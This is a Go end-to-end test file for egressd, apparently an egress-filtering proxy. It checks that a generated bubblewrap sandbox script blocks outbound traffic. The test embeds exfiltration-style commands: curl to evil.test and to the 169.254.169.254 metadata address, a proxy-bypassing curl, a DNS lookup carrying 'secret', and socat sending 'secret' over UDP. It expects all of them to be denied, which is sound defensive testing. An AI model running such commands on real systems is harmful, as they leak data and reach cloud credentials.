package run

import (
	"bufio"
	"bytes"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/egressd/egressd/e2e/world"
	"github.com/egressd/egressd/internal/lab"
	"github.com/egressd/egressd/internal/lab/engine"
)

const bubblewrapPolicy = `version: 1
listen: {open_to_network: true, proxy: ["` + lab.GatewayIPv4 + `:3128", "[` + lab.GatewayIPv6 + `]:3128"]}
allow: ["*.allowed.test"]
sandboxes:
  - {name: web, enter: "unix:${XDG_RUNTIME_DIR}/web/enter.sock"}
  - {name: mine, enter: "unix:${XDG_RUNTIME_DIR}/mine/enter.sock", uid: [1000]}
`

// ownFiles are options of bwrap that leave the program what it needs, and no sockets.
var ownFiles = strings.Fields("--ro-bind / / --tmpfs /run --tmpfs /tmp --dev /dev --proc /proc --unshare-all --share-net --die-with-parent --")

// bubblewrapScript has egressd write the script for a sandbox.
func bubblewrapScript(t *testing.T, d *world.Daemon, name string) string {
	t.Helper()
	path := filepath.Join(d.Dir, name+"-bwrap")
	if said, err := d.Command(t.Context(), nil, "init", "bubblewrap", "--config", d.Config, "--name", name, "-o", path).CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, said)
	}
	return path
}

func TestBubblewrapScript(t *testing.T) {
	d := world.Start(t, bubblewrapPolicy)
	if err := os.Chmod(filepath.Dir(d.Dir), 0o755); err != nil { // for the user
		t.Fatal(err)
	}
	rows := []struct{ says, sandbox, before string }{
		{"as root", "web", "env"},
	}
	if engine.Usable() == nil { // there are users
		rows = append(rows, struct{ says, sandbox, before string }{"as a user", "mine", "setpriv --reuid 1000 --regid 1000 --keep-groups"})
	}
	for _, row := range rows {
		t.Run(row.says, func(t *testing.T) { bubblewrapped(t, d, row.sandbox, strings.Fields(row.before)) })
	}
}

// bubblewrapped tries ways out in a sandbox that the script makes, and again once egressd
// was killed.
func bubblewrapped(t *testing.T, d *world.Daemon, sandbox string, before []string) {
	t.Helper()
	script := bubblewrapScript(t, d, sandbox)
	mark, err := d.Log.Mark()
	if err != nil {
		t.Fatal(err)
	}
	const ways = `curl -sS -m9 http://evil.test/; curl -sS -m3 --noproxy '*' http://151.101.1.69/; curl -sS -m3 http://169.254.169.254/; curl -sS -m3 'http://[2606:2800:220:1::1]/'
dig +time=1 +tries=1 @8.8.8.8 secret.evil.test; echo secret | socat -t1 - UDP:151.101.1.69:9999; `
	argv := append(append(append(before, script), ownFiles...), "sh", "-c", `curl -sS -m9 http://a.allowed.test/x; echo; read go; `+ways+`echo tried; read go; curl -sS -m9 http://a.allowed.test/x; `+ways+`exit 7`)
	cmd := exec.CommandContext(t.Context(), argv[0], argv[1:]...)
	var talk bytes.Buffer
	cmd.Stderr = &talk
	in, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := d.World.Gateway.Start(cmd); err != nil {
		t.Fatal(err)
	}
	lines := bufio.NewReader(out)
	if first, err := lines.ReadString('\n'); err != nil || !strings.HasPrefix(first, "origin "+world.AllowedIPv4) {
		t.Fatalf("printed %q, %v; %s", first, err, talk.String())
	}
	wire, err := d.World.Wire.Mark()
	if err != nil {
		t.Fatal(err)
	}
	asked := d.World.Zone.Mark()
	said := goOn(t, d, in, lines, "tried\n")
	if n := strings.Count(said, `"class":"default-deny"`); n != 3 || !strings.Contains(said, `"class":"address-denied"`) {
		t.Errorf("%d were denied by default: %s", n, said)
	}
	records, err := d.Log.Since(mark)
	if err != nil {
		t.Fatal(err)
	}
	for host, want := range map[string]string{"a.allowed.test": "allow", "evil.test": "deny", world.EvilIPv4: "deny", "169.254.169.254": "deny", world.AllowedIPv6: "deny"} {
		if got := world.ActionOf(records, sandbox, host); got != want {
			t.Errorf("%s: recorded %q, want %q", host, got, want)
		}
	}
	d.Kill()
	if said := goOn(t, d, in, lines, ""); strings.Contains(said, "origin") || strings.Contains(said, "class") {
		t.Errorf("after egressd was killed: %s", said)
	}
	_ = cmd.Wait()
	if code := cmd.ProcessState.ExitCode(); code != 7 {
		t.Errorf("exit %d: %s", code, talk.String())
	}
	if packets, err := d.World.Wire.Since(wire); err != nil || len(packets) > 0 {
		t.Errorf("sent %v, %v", packets, err)
	}
	if names := d.World.Zone.Since(asked); len(names) > 0 {
		t.Errorf("asked for %q", names)
	}
	d.Run(t, exec.Command(world.Egressd.Path(), "serve", "--config", d.Config))
}

// goOn has the program that waits for a line go on, and returns what it prints, up to a line
// or to its end.
func goOn(t *testing.T, d *world.Daemon, in io.Writer, lines *bufio.Reader, last string) (said string) {
	t.Helper()
	if _, err := io.WriteString(in, "\n"); err != nil {
		t.Fatal(err)
	}
	for {
		l, err := lines.ReadString('\n')
		said += l
		if err != nil || last != "" && strings.HasSuffix(l, last) {
			return said
		}
	}
}

// TestBubblewrapWarns is told for a network that nobody has.
func TestBubblewrapWarns(t *testing.T) {
	d := world.Start(t, bubblewrapPolicy)
	script := bubblewrapScript(t, d, "web")
	for _, row := range []struct{ option, want string }{
		{"--unshare-all", "with --unshare-all the program has a network of its own"},
		{"--unshare-net", "with --unshare-net the program has a network of its own"},
		{"--unshare-pid", ""},
	} {
		cmd := exec.CommandContext(t.Context(), script, "--dev-bind", "/", "/", row.option, "--", "curl", "-sS", "-m9", "http://a.allowed.test/")
		var out, talk bytes.Buffer
		cmd.Stdout, cmd.Stderr = &out, &talk
		err := d.World.Gateway.Run(cmd)
		if reached := err == nil && strings.Contains(out.String(), "origin"); reached != (row.want == "") || !strings.Contains(talk.String(), row.want) {
			t.Errorf("%s: %v, %q, %q", row.option, err, out.String(), talk.String())
		}
	}
}
